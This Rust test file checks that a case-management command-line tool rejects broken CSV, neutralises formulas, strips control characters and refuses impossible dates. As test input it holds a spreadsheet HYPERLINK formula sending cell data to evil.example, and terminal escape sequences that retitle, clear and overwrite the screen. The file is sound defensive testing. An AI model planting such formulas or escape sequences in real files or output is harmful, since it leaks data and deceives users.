//! The command line against hostile text and dates: a CSV whose layout is broken imports
//! nothing, formulas survive export and import as text, no control character of case data
//! reaches the terminal or an export, and dates that cannot be right are refused with the reason.

use super::{casedesk, path_str, text};
use std::path::{Path, PathBuf};

/// A casebook of one case, opened through the command line.
fn casebook(dir: &Path, summary: &str) -> PathBuf {
    let file = dir.join("book.ron");
    let out = casedesk(&[
        "new",
        path_str(&file),
        "--kind",
        "mla",
        "--direction",
        "outgoing",
        "--opened",
        "2026-03-01",
        "--summary",
        summary,
    ]);
    assert!(out.status.success(), "{}", text(&out));
    file
}

/// Every file of the casebook's folder with its bytes: the casebook, its snapshots, anything.
fn folder(dir: &Path) -> Vec<(PathBuf, Vec<u8>)> {
    let mut files: Vec<_> = walk(dir).collect();
    files.sort();
    files
}

fn walk(dir: &Path) -> Box<dyn Iterator<Item = (PathBuf, Vec<u8>)>> {
    let entries: Vec<_> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    Box::new(entries.into_iter().flat_map(|p| {
        if p.is_dir() {
            walk(&p)
        } else {
            let bytes = std::fs::read(&p).unwrap();
            Box::new(std::iter::once((p, bytes)))
        }
    }))
}

#[test]
fn a_stray_quote_in_row_10_of_1000_imports_nothing_and_names_the_row() {
    let dir = tempfile::tempdir().unwrap();
    let file = casebook(dir.path(), "Existing case");
    let mut csv = String::from("reference,kind,direction,status,opened,summary\n");
    for n in 1..=1000 {
        let summary = if n == 10 {
            "\"Summary 10".to_string()
        } else {
            format!("Summary {n}")
        };
        csv.push_str(&format!(
            "MO-2025-{n:04},MLA,Outgoing,TRANSMITTED,2025-02-01,{summary}\n"
        ));
    }
    let inputs = tempfile::tempdir().unwrap();
    let csv_path = inputs.path().join("register.csv");
    std::fs::write(&csv_path, csv).unwrap();
    let before = folder(dir.path());
    for extra in [&[][..], &["--dry-run"], &["--skip-bad-rows"]] {
        let mut args = vec!["import-csv", path_str(&file), path_str(&csv_path)];
        args.extend(extra);
        let out = casedesk(&args);
        let shown = text(&out);
        assert!(!out.status.success(), "{extra:?}: {shown}");
        assert!(
            shown.contains("Row 10 (line 11), column summary: a quote opens this value"),
            "{extra:?}: {shown}"
        );
        assert!(shown.contains("nothing was imported"), "{shown}");
        assert!(!shown.contains("Imported"), "{shown}");
        assert_eq!(folder(dir.path()), before, "{extra:?} changed the folder");
    }
}

#[test]
fn formulas_go_out_as_text_and_come_back_exactly() {
    let dir = tempfile::tempdir().unwrap();
    let summary = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
    let file = casebook(dir.path(), summary);
    let csv_path = dir.path().join("register.csv");
    let out = casedesk(&["export-csv", path_str(&file), "-o", path_str(&csv_path)]);
    assert!(out.status.success(), "{}", text(&out));
    let written = std::fs::read_to_string(&csv_path).unwrap();
    assert!(
        written.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Open\"\")\""),
        "{written}"
    );
    let copy = dir.path().join("copy.ron");
    let out = casedesk(&["import-csv", path_str(&copy), path_str(&csv_path)]);
    assert!(out.status.success(), "{}", text(&out));
    let book = casedesk::store::load(&copy).unwrap();
    assert_eq!(book.cases()[0].details.summary, summary);
}

#[test]
fn no_control_character_of_case_data_reaches_the_terminal_or_an_export() {
    let dir = tempfile::tempdir().unwrap();
    let file = casebook(
        dir.path(),
        "Title\u{1b}]0;owned\u{7}\u{1b}[2J cleared\u{1} and\roverwritten",
    );
    // A requested person with an escape sequence in the name, as a partner's file may bring.
    let csv_path = dir.path().join("people.csv");
    std::fs::write(
        &csv_path,
        "kind,direction,status,opened,requested_person,offence\n\
         MLA,Outgoing,TRANSMITTED,2026-02-01,Ali\u{1b}[31m Raza,Fraud\n",
    )
    .unwrap();
    let out = casedesk(&["import-csv", path_str(&file), path_str(&csv_path)]);
    assert!(out.status.success(), "{}", text(&out));
    let html = dir.path().join("summary.html");
    let runs = [
        vec!["show", path_str(&file), "MO-2026-0001"],
        vec!["list", path_str(&file)],
        vec!["show", path_str(&file), "NO\u{1b}[2J"],
        vec![
            "export",
            path_str(&file),
            "MO-2026-0001",
            "--format",
            "html",
            "--profile",
            "full",
            "--to",
            "CPS",
            "-o",
            path_str(&html),
        ],
    ];
    for args in runs {
        let out = casedesk(&args);
        let shown = text(&out);
        assert!(
            !shown.contains(['\u{1b}', '\u{7}', '\u{1}', '\r']),
            "{args:?}: {shown:?}"
        );
    }
    let list = text(&casedesk(&["list", path_str(&file)]));
    assert!(list.contains("Ali\u{FFFD}[31m Raza"), "{list:?}");
    let show = text(&casedesk(&["show", path_str(&file), "MO-2026-0001"]));
    assert!(
        show.contains("\u{FFFD}[2J cleared\u{FFFD} and\u{FFFD}overwritten"),
        "{show:?}"
    );
    let written = std::fs::read_to_string(&html).unwrap();
    assert!(!written.contains(['\u{1b}', '\u{7}', '\u{1}']), "{written}");
    assert!(written.contains("cleared\u{FFFD} and"), "{written}");
}

#[test]
fn dates_that_cannot_be_right_are_refused_with_the_reason() {
    let dir = tempfile::tempdir().unwrap();
    let file = casebook(dir.path(), "Existing case");
    let f = path_str(&file);
    let report_path = dir.path().join("report.md");
    let report = path_str(&report_path);
    let new = |opened: &'static str| {
        vec![
            "new",
            f,
            "--kind",
            "mla",
            "--direction",
            "incoming",
            "--opened",
            opened,
        ]
    };
    let cases = [
        (new("9999-01-01"), "--opened: 9999-01-01 is after today"),
        (new("0-01-01"), "--opened: Write the year in full"),
        (new("0000-01-01"), "--opened: 0000-01-01 is before 1900"),
        (new("1899-12-31"), "before 1900"),
        (
            vec![
                "transition",
                f,
                "MO-2026-0001",
                "ISSUED",
                "--on",
                "2026-02-29",
            ],
            "--on: 2026-02-29 does not exist: February 2026 has 28 days",
        ),
        (
            vec![
                "transition",
                f,
                "MO-2026-0001",
                "ISSUED",
                "--on",
                "1/1/2100",
            ],
            "is after today",
        ),
        (
            vec![
                "report",
                f,
                "--from",
                "2026-01-01",
                "--to",
                "2126-01-31",
                "--format",
                "md",
                "-o",
                report,
            ],
            "--to: 2126-01-31 is more than 5 years ahead",
        ),
    ];
    let before = std::fs::read(&file).unwrap();
    for (args, expected) in cases {
        let out = casedesk(&args);
        let shown = text(&out);
        assert!(!out.status.success(), "{args:?}: {shown}");
        assert!(shown.contains(expected), "{args:?}: {shown}");
        assert_eq!(std::fs::read(&file).unwrap(), before, "{args:?}");
    }
    let book = casedesk::store::load(&file).unwrap();
    assert_eq!(book.cases().len(), 1);
}

/// A register as Excel on Windows saves "CSV": Windows-1252 (é is 0xE9, ñ 0xF1, ô 0xF4) with
/// semicolons, a value holding a semicolon quoted. Detected, said, imported only once confirmed,
/// and then with every accent right.
#[test]
fn a_windows_1252_file_with_semicolons_imports_once_its_layout_is_confirmed() {
    let dir = tempfile::tempdir().unwrap();
    let file = casebook(dir.path(), "First");
    let csv = dir.path().join("excel.csv");
    std::fs::write(
        &csv,
        b"kind;direction;status;opened;requested_person;summary\r\n\
          MLA;Outgoing;TRANSMITTED;2026-02-01;Jos\xe9 N\xfa\xf1ez;\"Fraud; C\xf4te d'Ivoire\"\r\n",
    )
    .unwrap();
    let before = folder(dir.path());
    let import = |extra: &[&str]| {
        let mut args = vec!["import-csv", path_str(&file), path_str(&csv)];
        args.extend_from_slice(extra);
        casedesk(&args)
    };
    let out = import(&[]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    let said = text(&out);
    assert!(
        said.contains("as Windows-1252") && said.contains("semicolons"),
        "{said}"
    );
    assert!(
        said.contains("--encoding windows-1252 --separator semicolon"),
        "{said}"
    );
    assert_eq!(folder(dir.path()), before, "a refused import changed files");

    let out = import(&["--dry-run"]);
    assert!(out.status.success(), "{}", text(&out));
    assert!(
        text(&out).contains("1 of 1 row would be imported"),
        "{}",
        text(&out)
    );
    assert_eq!(folder(dir.path()), before);

    // Only one part confirmed is not enough.
    let out = import(&["--encoding", "windows-1252"]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));

    let out = import(&["--encoding", "windows-1252", "--separator", "semicolon"]);
    assert!(out.status.success(), "{}", text(&out));
    let out = casedesk(&["show", path_str(&file), "MO-2026-0002"]);
    let shown = text(&out);
    assert!(
        shown.contains("José Núñez") && shown.contains("Fraud; Côte d'Ivoire"),
        "{shown}"
    );
}

/// A file bigger than any register (a runaway export, a device) is refused unread, naming it;
/// nothing changes.
#[test]
fn a_csv_bigger_than_any_register_is_refused_unread() {
    let dir = tempfile::tempdir().unwrap();
    let file = casebook(dir.path(), "First");
    let csv = dir.path().join("huge.csv");
    // Sparse: it takes no room on disk.
    let huge = std::fs::File::create(&csv).unwrap();
    huge.set_len(casedesk::store::MAX_FILE_BYTES + 1).unwrap();
    drop(huge);
    let before = std::fs::read(&file).unwrap();
    let out = casedesk(&["import-csv", path_str(&file), path_str(&csv)]);
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    assert!(
        text(&out).contains("huge.csv") && text(&out).contains("more than any register"),
        "{}",
        text(&out)
    );
    assert_eq!(std::fs::read(&file).unwrap(), before);
}
